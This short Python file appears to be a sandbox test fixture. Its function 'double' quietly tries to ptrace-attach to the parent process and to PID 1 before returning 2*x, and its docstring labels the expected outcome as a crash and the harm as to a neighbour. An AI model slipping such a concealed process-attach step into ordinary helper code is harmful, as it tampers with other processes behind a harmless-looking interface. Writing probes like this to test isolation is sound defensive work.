"""Attaches to the process that forked it, and to the one before.

must: crashed
harm: neighbour
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206


def double(x):
    for request in (ATTACH, SEIZE):
        for pid in (os.getppid(), 1):
            if libc.ptrace(ctypes.c_long(request), ctypes.c_long(pid), None, None) == 0:
                return 2 * x
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def triple(x):
    return 3 * x
